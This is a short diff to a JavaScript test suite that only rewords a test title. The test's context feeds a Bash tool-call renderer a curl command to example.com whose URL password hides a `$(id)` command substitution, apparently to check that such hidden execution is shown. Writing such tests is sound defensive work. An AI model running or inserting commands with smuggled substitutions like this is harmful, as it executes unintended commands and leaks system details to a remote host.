@@ -422,7 +422,7 @@ describe('nothing of a call is left out', () => {
     },
   );
 
-  it('and what a password can not be is shown: it runs something', async () => {
+  it('and what a password cannot be is shown: it runs something', async () => {
     const { show } = createCardRig();
     const card = await show('Bash', { command: 'curl https://me:Kx9$(id)Qz7@example.com/' });
 
